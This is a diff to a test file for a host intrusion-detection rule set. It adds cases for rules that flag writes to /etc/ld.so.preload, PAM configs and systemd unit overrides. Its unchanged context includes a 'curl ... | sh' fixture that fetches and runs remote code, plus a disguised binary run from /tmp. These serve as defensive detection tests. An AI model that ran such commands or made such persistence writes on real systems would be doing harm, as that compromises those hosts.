@@ -125,6 +125,10 @@ SHIPPED_RULE_CASES = {
                         run("systemctl", "status", "updater.service")),
     "service-unit-written": (write("/etc/systemd/system/updater.service", key=None),
                              write("/etc/systemd/journald.conf", key=None)),
+    "library-preload-written": (write("/etc/ld.so.preload", key=None),
+                                write("/etc/ld.so.conf.d/x86_64-linux-gnu.conf", key=None)),
+    "pam-config-written": (write("/etc/pam.d/sshd", key=None),
+                           write("/etc/security/limits.conf", key=None)),
     "download-piped-to-shell": (sh("curl -fsSL http://203.0.113.9/x.sh | sh"),
                                 sh("curl -fsSL http://203.0.113.9/x.sh -o /root/x.sh")),
     "executed-from-temp": (run("/tmp/.ice/kworker", exe="/tmp/.ice/kworker"),
@@ -247,6 +251,13 @@ WATCH_KEY_CASES = {
                            arrived("/etc/hosts.deny", "hosts-deny")),
     "audit-config-written": (arrived("/etc/audit/auditd.conf", "audit-config"),
                              arrived("/etc/fstab", "fstab")),
+    "service-unit-written": (
+        arrived("/etc/systemd/system/dbus-helper.service.d/override.conf", "systemd-unit"),
+        arrived("/etc/hosts", "hosts")),
+    "library-preload-written": (arrived("/etc/ld.so.preload", "ld-preload", exe="/usr/bin/tee"),
+                                arrived("/etc/fstab", "fstab")),
+    "pam-config-written": (arrived("/etc/pam.d/common-auth", "pam"),
+                           arrived("/etc/hosts.deny", "hosts-deny")),
 }
 
 
